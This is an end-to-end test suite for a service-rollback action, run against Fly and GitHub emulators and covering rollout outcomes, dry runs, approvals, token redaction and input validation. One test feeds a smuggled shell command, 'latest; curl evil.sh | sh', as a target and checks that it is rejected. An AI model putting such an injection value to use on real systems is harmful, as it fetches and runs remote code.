import { existsSync, readdirSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { runRollback, planOnly } from "../../actions/rollback/step.ts";
import { InputError } from "../../actions/rollback/inputs.ts";
import { renderRollbackMarkdown } from "../../actions/rollback/summary.ts";
import { deployState } from "../../emulators/github/routes/deployments.ts";
import type { StoredIssue } from "../../emulators/github/state.ts";
import { FLY_TOKEN, RUN_ID, startHarness, type Harness } from "./harness.ts";
import { IMG, threeMachines } from "./fixtures.ts";

let h: Harness | undefined;
afterEach(async () => {
  await h?.close();
  h = undefined;
});

/** Issue #7, open on the GitHub emulator: the incident a rollback comments on. */
function openIssue7(harness: Harness, over: Partial<StoredIssue> = {}): void {
  harness.gh.state.issues.set(7, {
    number: 7,
    id: 7007,
    title: "x",
    body: "",
    state: "open",
    stateReason: null,
    labels: [],
    assignees: [],
    user: "bot",
    createdAt: "",
    updatedAt: "",
    closedAt: null,
    deleted: false,
    ...over,
  });
}

describe("runRollback end to end (Fly emulator, GitHub emulator, real probe)", () => {
  it("a clean rollback: machines rolled, probes up, deployment success, incident commented, record committed", async () => {
    h = await startHarness(threeMachines());
    openIssue7(h, { title: "agent-service down", labels: ["incident"] });
    const record = await runRollback(h.deps({ incident: 7 }));

    expect(record.outcome).toBe("success");
    expect(record.summary).toMatch(/all 3 machine\(s\) run .*deployment-042 and the probes see it up/);
    expect(record).toMatchObject({
      dispatchedBy: "oncall-omar",
      approvedBy: [
        {
          login: "manager-mia",
          state: "approved",
          comment: "P1, approved per support plan",
          environments: ["production"],
        },
      ],
      reason: "P1: error rate 12% since v43",
      from: [IMG(43)],
      to: IMG(42),
      target: { input: null, image: IMG(42), releaseVersion: 42, source: "previous distinct image" },
    });
    expect(record.verification?.healthy).toBe(true);
    expect(record.verification?.rounds.length).toBe(2);
    expect(h.health.hits).toBe(2);
    expect(record.timings.rolloutMs).toBeGreaterThanOrEqual(0);

    const [deployment] = deployState(h.gh.state).deployments;
    expect(deployment).toMatchObject({
      environment: "production",
      task: "rollback",
      payload: { run: String(RUN_ID), service: "agent-service", to: IMG(42) },
    });
    expect(deployment!.statuses.map((s) => [s.state, s.environmentUrl])).toEqual([
      ["in_progress", "https://hotdash-agent-service.fly.dev"],
      ["success", "https://hotdash-agent-service.fly.dev"],
    ]);
    const comment = h.gh.state.comments.find((c) => c.issue === 7)!;
    expect(comment.body).toContain(`<!-- hotdash-ops:rollback run=${RUN_ID} -->`);
    expect(comment.body).toContain("approved by:** @manager-mia");

    expect(h.commits).toEqual([
      {
        paths: [`reports/rollbacks/${record.id}.json`, `reports/rollbacks/${record.id}.md`],
        message: `ops: rollback agent-service to ${IMG(42)} (success) [skip ci]`,
      },
    ]);
    const saved = JSON.parse(readFileSync(join(h.dataDir, `reports/rollbacks/${record.id}.json`), "utf8"));
    expect(saved.machines.map((m: { runningImage: string }) => m.runningImage)).toEqual([IMG(42), IMG(42), IMG(42)]);
    expect(h.gh.violations).toEqual([]);
    expect(record.notes).toEqual([]);
  });

  it("a machine that never starts: partial, reported machine by machine, deployment failure, never success", async () => {
    h = await startHarness(threeMachines({ m2: { neverStarts: true } }));
    const record = await runRollback(h.deps({ target: "v41", incident: undefined }));

    expect(record.outcome).toBe("partial");
    expect(record.summary).toContain("Split state, NOT a success");
    expect(record.summary).toContain(`2 of 3 on ${IMG(41)} (m1, m2); 1 of 3 on ${IMG(43)} (m3)`);
    expect(record.verificationSkipped).toBe("the rollout did not complete");
    expect(h.health.hits).toBe(0);
    expect(deployState(h.gh.state).deployments[0]!.statuses.map((s) => s.state)).toEqual(["in_progress", "failure"]);
    const md = renderRollbackMarkdown(record);
    expect(md).toContain("| `m2` | iad | failed | `registry.fly.io/hotdash-agent-service:deployment-041` | starting |");
    expect(md).toContain(
      "| `m3` | lhr | not-attempted | `registry.fly.io/hotdash-agent-service:deployment-043` | started |",
    );
    expect(h.commits[0]!.message).toContain("(partial)");
  });

  it("verification decides: machines switched but the probe stays red is a failure", async () => {
    h = await startHarness(threeMachines());
    h.health.status = 503;
    const record = await runRollback(
      h.deps({ target: IMG(41) }, { timeouts: { verifyMs: 10_000, verifyIntervalMs: 2_000, checksPollMs: 1_000 } }),
    );
    expect(record.outcome).toBe("failure");
    expect(record.summary).toMatch(
      /all 3 machine\(s\) run .*deployment-041, but verification failed: agent-service did not stay up within 10 s; last probe: down/,
    );
    expect(record.verification!.rounds.length).toBe(6);
    expect(deployState(h.gh.state).deployments[0]!.statuses.at(-1)!.state).toBe("failure");
  });

  it("a dry run resolves the plan and changes nothing anywhere", async () => {
    h = await startHarness(threeMachines());
    const record = await runRollback(h.deps({ dryRun: true, incident: 7 }));
    expect(record.outcome).toBe("dry-run");
    expect(record.plan.join("\n")).toMatch(
      /roll 3 machine\(s\) to .*deployment-042[\s\S]*1\. m1 \(m1-name, iad, started\)[\s\S]*3\. m3/,
    );
    expect(h.fly.mutations()).toEqual([]);
    expect(h.gh.requests).toEqual([]);
    expect(h.commits).toEqual([]);
    expect(existsSync(join(h.dataDir, "reports"))).toBe(false);
  });

  it("an unknown service, a service without rollback, an invalid ref: clear errors before any request", async () => {
    h = await startHarness(threeMachines());
    await expect(runRollback(h.deps({ service: "nope" }))).rejects.toThrow(
      /input "service": unknown service "nope"; .* Services that declare a rollback: agent-service/,
    );
    await expect(runRollback(h.deps({ service: "shopify-admin" }))).rejects.toThrow(
      /"shopify-admin" declares no rollback target; add `rollback:`/,
    );
    const bad = await runRollback(h.deps({ target: "latest; curl evil.sh | sh" })).catch((e: unknown) => e);
    expect(bad).toBeInstanceOf(InputError);
    expect(String(bad)).toMatch(/input "target": "latest; curl evil.sh \| sh" is not valid/);
    expect(h.fly.requests).toEqual([]);
    expect(h.gh.requests).toEqual([]);
    expect(() => planOnly(h!.config, { service: "nope", reason: "x", dryRun: false })).toThrow(/unknown service/);
    expect(planOnly(h.config, { service: "agent-service", reason: "x", dryRun: false, target: "v42" })[0]).toMatch(
      /Fly app hotdash-agent-service, roll every machine to release v42/,
    );
  });

  it("a leased machine stops everything before a change, and the record says so", async () => {
    h = await startHarness(threeMachines({ m1: { leasedBy: { owner: "deployer@hotdash.com" } } }));
    const record = await runRollback(h.deps({}));
    expect(record.outcome).toBe("failure");
    expect(record.summary).toMatch(/^Nothing was changed: machine m1 is leased by deployer@hotdash.com/);
    expect(h.fly.mutations()).toEqual([]);
  });

  it("notes a run that nobody approved (an unprotected environment) and a GitHub that refuses writes, without stopping", async () => {
    h = await startHarness(threeMachines({ m1: { leasedBy: { owner: "deployer@hotdash.com" } } }));
    deployState(h.gh.state).approvals.clear();
    h.gh.permission = "read";
    const record = await runRollback(h.deps({}));
    expect(record.approvedBy).toEqual([]);
    expect(record.notes[0]).toMatch(/no approval recorded for this run: is the `production` environment protected/);
    expect(record.notes[1]).toMatch(/deployment not recorded on GitHub: .*403.*permissions: deployments: write/);
    expect(renderRollbackMarkdown(record)).toContain("### Notes");
  });

  it("a re-run of the same workflow run finishes its deployment and comment instead of duplicating them", async () => {
    h = await startHarness(threeMachines());
    openIssue7(h);
    await runRollback(h.deps({ incident: 7, target: "v42" }));
    await runRollback(h.deps({ incident: 7, target: "v42" }, { run: { id: RUN_ID, attempt: 2 } }));
    expect(deployState(h.gh.state).deployments.length).toBe(1);
    expect(h.gh.state.comments.filter((c) => c.issue === 7).length).toBe(1);
    expect(readdirSync(join(h.dataDir, "reports/rollbacks")).filter((f) => f.endsWith(".json")).length).toBe(2);
  });

  it("keeps the Fly token out of the record, the summary, the log, the incident comment and every GitHub request", async () => {
    h = await startHarness(threeMachines({ m2: { neverStarts: true } }));
    openIssue7(h);
    const record = await runRollback(h.deps({ incident: 7 }));
    const comment = h.gh.state.comments.find((c) => c.issue === 7)!.body;
    expect(comment).toContain("Rollback of Agent SDK: partial");
    const everything = [
      JSON.stringify(record),
      renderRollbackMarkdown(record),
      h.logs.join("\n"),
      comment,
      JSON.stringify(h.gh.requests),
      readFileSync(join(h.dataDir, `reports/rollbacks/${record.id}.md`), "utf8"),
    ].join("\n");
    expect(everything).not.toContain(FLY_TOKEN);
    expect(h.fly.requests[0]!.headers.authorization).toBe(`Bearer ${FLY_TOKEN}`);
  });

  it("the command provider: runs the filled argv without a shell, then verification decides", async () => {
    const script = "require('fs').writeFileSync(process.argv[1], JSON.stringify(process.argv.slice(2)))";
    const out = join(tmpdir(), `rollback-cmd-${process.pid}-${Date.now()}.json`);
    h = await startHarness(
      [],
      {},
      {
        provider: "command",
        command: [process.execPath, "-e", script, "--", out, "deploy", "-a", "{service}", "--image", "{target}"],
        targetPattern: "^v\\d+$",
      },
    );
    const record = await runRollback(h.deps({ target: "v42" }, { env: {} }));
    expect(record.outcome).toBe("success");
    expect(JSON.parse(readFileSync(out, "utf8"))).toEqual(["deploy", "-a", "agent-service", "--image", "v42"]);
    expect(record.command).toMatchObject({ ok: true, exitCode: 0 });
    expect(record.summary).toMatch(/agent-service: the command succeeded and the probes see it up/);
    expect(h.fly.requests).toEqual([]);
    rmSync(out, { force: true });

    const failing = await startHarness(
      [],
      {},
      {
        provider: "command",
        command: [process.execPath, "-e", "process.exit(4)", "{target}"],
        targetPattern: "^v\\d+$",
      },
    );
    const bad = await runRollback(failing.deps({ target: "v42" }, { env: {} }));
    await failing.close();
    expect(bad.outcome).toBe("failure");
    expect(bad.summary).toMatch(
      /The rollback command failed \(exited with code 4\); the state of agent-service is unknown/,
    );
    expect(bad.verificationSkipped).toBe("the rollout did not complete");
    await expect(runRollback(h.deps({ target: "v42; reboot" }, { env: {} }))).rejects.toThrow(
      /does not match agent-service's targetPattern/,
    );
  });

  it("says which secret is missing and where to put it", async () => {
    h = await startHarness(threeMachines());
    await expect(runRollback(h.deps({}, { env: {} }))).rejects.toThrow(
      /missing secret FLY_API_TOKEN: add it as an environment secret of `production`/,
    );
  });
});
